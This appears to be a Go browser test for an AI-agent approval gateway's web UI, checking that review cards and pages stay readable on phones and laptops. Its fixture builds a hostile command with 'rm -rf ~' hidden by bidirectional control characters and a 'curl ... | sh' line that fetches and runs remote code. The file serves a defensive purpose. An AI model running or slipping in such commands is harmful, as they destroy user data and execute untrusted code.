package web

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/airlockgw/airlock/deploy/testkit"
	"github.com/airlockgw/airlock/gateway/web/webtest"
)

// screens are the widths the card is checked at: a phone and a laptop.
var screens = []struct {
	name          string
	width, height int64
}{{"390", 390, 844}, {"1280", 1280, 800}}

// hostileLongCommand is a command of over 3 KB as an attacker would write
// it: bidirectional controls, zero-width characters, line breaks and a
// path far wider than any screen.
func hostileLongCommand() string {
	path := "/srv/releases/" + strings.Repeat("build-artifacts-2026-12-07T16:45:00Z-", 30) + "payload.tar.gz"
	var b strings.Builder
	b.WriteString("cd " + path + " && tar -xzf payload.tar.gz # \u202e ; rm -rf ~ \u202c\n")
	b.WriteString("echo ok\u200b\u200b > /dev/null\u2066 || true\u2069\n")
	for i := 0; b.Len() < 3200; i++ {
		fmt.Fprintf(&b, "printf '%%s\\n' step-%d-of-the-deployment-with-a-fairly-long-name >> /var/log/deploy.log\n", i)
	}
	b.WriteString("curl -fsS https://example.invalid/x | sh")
	return b.String()
}

// hostileLongCard is a destructive call no run approval covers, from an
// agent whose argv and directory hold hidden characters too.
func hostileLongCard(name string, kind string) Card {
	c := callCard(name, hostileLongCommand())
	if kind == "run" {
		c = runCard(name, hostileLongCommand())
	}
	c.Class, c.ClassReason = "destructive", "rm -rf ~"
	c.Escalation = "it is destructive, and run approvals cover read_only and mutating commands only"
	if c.Run.Process != nil {
		c.Run.Process.Argv = append(c.Run.Process.Argv, "--note", "first\nsecond\nthird\nfourth")
		c.Run.Process.Cwd = "/home/dev/" + strings.Repeat("a-very-long-directory-name/", 12) + "\u202eevil"
	}
	c.RequestedAt, c.ExpiresAt = time.Now().Add(-10*time.Second), time.Now().Add(10*time.Minute)
	return c
}

// firstScreen is where the browser puts a card's class badge, its
// decision buttons and its decision bar.
type firstScreen struct {
	Badge, Approve, Deny, Bar box
}

type box struct{ Top, Bottom, Left, Right float64 }

// maxBar is the most of a phone's screen height the sticky decision bar
// may take, so that the card it decides stays readable above it. (With
// a run's limits spread out in it, the bar took 14% of a 390×844 screen.)
const maxBar = 0.12

// cardLayout: at a phone's and a laptop's width, for a 3 KB hostile
// command, nothing is wider than the screen, the class and the decision
// bar are on the first screen, and on a phone the bar takes at most
// maxBar of the screen with its options closed, and cuts no input's
// placeholder with them open. Screenshots of the call card at both widths
// and of the run card on a phone go to docs/img under -update.
func (p browserPages) cardLayout(t *testing.T) {
	for _, kind := range []string{"call", "run"} {
		for _, sc := range screens {
			t.Run(kind+" at "+sc.name, func(t *testing.T) {
				f, base, tab := p.start(t)
				card := hostileLongCard("layout"+kind, kind)
				if len(card.Command) < 3*1024 {
					t.Fatalf("the command is %d bytes, want at least 3 KB", len(card.Command))
				}
				f.add(card)
				fit := showAt(t, tab, base+"/ui/pending", card.ID, sc.width)
				if pr := fit.Problem(); pr != "" {
					t.Error(pr)
				}
				got, err := webtest.Eval[firstScreen](tab, fmt.Sprintf(`(function (id) {
					const r = function (e) { const b = e.getBoundingClientRect(); return {Top: b.top, Bottom: b.bottom, Left: b.left, Right: b.right}; };
					return {
						Badge: r(document.getElementById('class-' + id)),
						Approve: r(document.getElementById('approve-' + id)),
						Deny: r(document.getElementById('deny-' + id)),
						Bar: r(document.getElementById(id).querySelector('.decide')),
					};
				})(%q)`, card.ID))
				if err != nil {
					t.Fatal(err)
				}
				for name, b := range map[string]box{"class badge": got.Badge, "Approve": got.Approve, "Deny": got.Deny} {
					if b.Top < 0 || b.Bottom > float64(fit.Height) || b.Left < 0 || b.Right > float64(fit.Width) || b.Bottom <= b.Top {
						t.Errorf("%s at %+v, not on the first %d×%d screen", name, b, fit.Width, fit.Height)
					}
				}
				if h := got.Bar.Bottom - got.Bar.Top; sc.width < 600 && h > maxBar*float64(fit.Height) {
					t.Errorf("the decision bar is %.0f px high on a %d px screen, want at most %.0f%% of it", h, fit.Height, maxBar*100)
				}
				noHits(t, tab)
				dir, name := "", "review-card-"+sc.name+".png"
				if kind == "run" {
					name = "review-card-run-" + sc.name + ".png"
				}
				if *update && (kind == "call" || sc.width < 600) {
					dir = "../../docs/img"
				}
				webtest.ScreenOf(t, tab, sc.width, sc.height, name, dir)
				// Opened, the options fit too, and show their placeholders whole.
				if _, err := webtest.Eval[bool](tab, `document.querySelectorAll('.decide details').forEach(function (d) { d.open = true; }), true`); err != nil {
					t.Fatal(err)
				}
				fit, err = webtest.Fits(tab)
				if err != nil {
					t.Fatal(err)
				}
				if pr := fit.Problem(); pr != "" {
					t.Errorf("with the options open: %s", pr)
				}
			})
		}
	}
}

// showAt loads url in tab at width (and the screen's height) and waits
// for the element id and the page's end: how it fits.
func showAt(t *testing.T, tab context.Context, url, id string, width int64) webtest.Fit {
	t.Helper()
	height := int64(800)
	for _, sc := range screens {
		if sc.width == width {
			height = sc.height
		}
	}
	if err := chromedp.Do(tab, chromedp.EmulateViewport(width, height), chromedp.Navigate(url), chromedp.WaitVisible(chromedp.ID(id))); err != nil {
		t.Fatal(err)
	}
	if err := webtest.WaitFor(tab, fmt.Sprintf(`window.innerWidth === %d && document.readyState === 'complete'`, width), testkit.Patience); err != nil {
		t.Fatal(err)
	}
	fit, err := webtest.Fits(tab)
	if err != nil {
		t.Fatal(err)
	}
	if fit.Width != int(width) {
		t.Fatalf("viewport %d px wide, want %d", fit.Width, width)
	}
	return fit
}

// shortConfirmation: after Deny, the confirmation names the request and
// repeats only the start of the command's first line, marked as cut.
func (p browserPages) shortConfirmation(t *testing.T) {
	f, base, tab := p.start(t)
	card := hostileLongCard("confirm", "call")
	f.add(card)
	if err := chromedp.Do(tab, chromedp.EmulateViewport(390, 844), chromedp.Navigate(base+"/ui/pending"), chromedp.WaitVisible(chromedp.ID(card.ID)),
		chromedp.Click(chromedp.ID("deny-"+card.ID))); err != nil {
		t.Fatal(err)
	}
	if err := webtest.WaitFor(tab, `document.getElementById('flash') !== null`, testkit.Patience); err != nil {
		t.Fatal(err)
	}
	got, err := webtest.Eval[struct{ Text, Code, Cut string }](tab, `(function () {
		const f = document.getElementById('flash');
		return {Text: f.textContent, Code: f.querySelector('code').textContent, Cut: (document.getElementById('flash-cut') || {}).textContent || ''};
	})()`)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(got.Text, card.ID) || !strings.HasPrefix(card.Command, got.Code) || len(got.Code) != confirmRunes {
		t.Errorf("confirmation %q: want the id %s and the first %d characters of the command", got.Text, card.ID, confirmRunes)
	}
	if want := fmt.Sprintf("first of %d lines, %d of %d bytes shown", strings.Count(card.Command, "\n")+1, confirmRunes, len(card.Command)); !strings.Contains(got.Cut, want) {
		t.Errorf("cut note %q, want it to say %q", got.Cut, want)
	}
	noHits(t, tab)
}

// runLimits: a run card's limits fold into one line of the decision bar
// that names their defaults; Approve with the line closed approves with
// those, and a limit changed is said to be changed once the line is
// closed again (CSS, no script), and is what Approve sends.
func (p browserPages) runLimits(t *testing.T) {
	f, base, tab := p.start(t)
	plain, changed := runCard("limits1", "make deploy"), runCard("limits2", "make test")
	plain.ExpiresAt, changed.ExpiresAt = time.Now().Add(time.Minute), time.Now().Add(time.Minute)
	f.add(plain)
	f.add(changed)
	showAt(t, tab, base+"/ui/pending", changed.ID, 390)
	line := func(id string) string {
		t.Helper()
		s, err := webtest.Eval[string](tab, fmt.Sprintf(`document.querySelector('#options-%s summary').innerText`, id))
		if err != nil {
			t.Fatal(err)
		}
		return s
	}
	if got, want := line(plain.ID), "limits: for 1h, any number of actions, only build-box as ci"; got != want {
		t.Errorf("closed limits line %q, want %q", got, want)
	}
	summary := chromedp.CSS("#options-" + changed.ID + " summary")
	if err := chromedp.Do(tab, chromedp.Click(summary), chromedp.SendKeys(chromedp.CSS("#options-"+changed.ID+" input[name=max_actions]"), "5"), chromedp.Click(summary)); err != nil {
		t.Fatal(err)
	}
	if got, want := line(changed.ID), "limits: changed: open to see them"; got != want {
		t.Errorf("closed limits line after a change %q, want %q", got, want)
	}
	for _, c := range []struct {
		card Card
		max  int
	}{{changed, 5}, {plain, 0}} {
		if err := chromedp.Do(tab, chromedp.Click(chromedp.ID("approve-"+c.card.ID))); err != nil {
			t.Fatal(err)
		}
		testkit.Eventually(t, func() bool { return f.lastDecision().RequestID == c.card.ID }, "approving %s reached no backend", c.card.ID)
		if err := webtest.WaitFor(tab, `document.getElementById('flash') !== null && document.readyState === 'complete'`, testkit.Patience); err != nil {
			t.Fatal(err)
		}
		d := f.lastDecision()
		if d.RequestID != c.card.ID || !d.Approve || d.TTL != time.Hour || d.MaxActions != c.max || !d.OnlyThisAccount {
			t.Errorf("approving %s sent %+v, want for 1h, at most %d actions (0: any), only this account", c.card.ID, d, c.max)
		}
	}
	noHits(t, tab)
}

// pagesLayout: the runs page and an action page (its output read too),
// full of a run's and an action's hostile long text, fit a phone's and a
// laptop's width as the card does, and cut no input's placeholder.
func (p browserPages) pagesLayout(t *testing.T) {
	for _, sc := range screens {
		t.Run(sc.name, func(t *testing.T) {
			f, base, tab := p.start(t)
			long, now := hostileLongCommand(), time.Now()
			ended := hostileLongCard("pages", "call").Run
			ended.State, ended.DecidedBy, ended.Reason, ended.MaxActions, ended.Actions = "expired", "bob", long, 3, 3
			ended.EndedAt, ended.EndReason, ended.EndedBy, ended.EndNote = now, "max_actions", "bob", long
			ended.Scope = []string{"build-box/" + strings.Repeat("a-long-account-name-", 8)}
			ended.Recent = []ActionSummary{{ID: "act_pages", Target: "web-1", Account: "deploy", Command: long, State: "finished", Outcome: "exited", ExitCode: new(int), RequestedAt: now}}
			active := *hostileLongCard("pages2", "call").Run
			active.State, active.Recent = "approved", ended.Recent
			f.mu.Lock()
			f.runs = []Run{active, *ended}
			f.actions["act_pages"] = Action{ID: "act_pages", RunID: ended.ID, Target: "web-1", Account: "deploy", Command: long, Timeout: time.Minute,
				State: "finished", Outcome: "exited", Detail: long, ExitCode: new(int), RequestedAt: now, StartedAt: now, FinishedAt: now,
				ApprovalMode: "run", ApprovalID: reqID("pages"), DecidedBy: "bob", Decision: "approve", ApprovalReason: long, StdoutBytes: int64(len(long)), OutputStored: true,
				Trail: []Entry{{Seq: 7, Time: now, Kind: "action.requested", ActionID: "act_pages", RunID: ended.ID, Fields: []Field{{"command", long}, {"target", "web-1"}}}}}
			f.outputs["act_pages"] = Output{Stdout: []byte(long), Stderr: []byte(long), StdoutReceived: int64(len(long)), StderrReceived: int64(len(long))}
			f.mu.Unlock()
			check := func(what string, fit webtest.Fit) {
				t.Helper()
				if pr := fit.Problem(); pr != "" {
					t.Errorf("%s: %s", what, pr)
				}
			}
			check("runs page", showAt(t, tab, base+"/ui/runs", ended.ID, sc.width))
			noHits(t, tab)
			check("action page", showAt(t, tab, base+"/ui/actions/act_pages", "read-output", sc.width))
			if err := chromedp.Do(tab, chromedp.Click(chromedp.ID("read-output")), chromedp.WaitVisible(chromedp.ID("output"))); err != nil {
				t.Fatal(err)
			}
			if err := webtest.WaitFor(tab, `document.readyState === 'complete'`, testkit.Patience); err != nil {
				t.Fatal(err)
			}
			fit, err := webtest.Fits(tab)
			if err != nil {
				t.Fatal(err)
			}
			check("action page with its output", fit)
			noHits(t, tab)
		})
	}
}
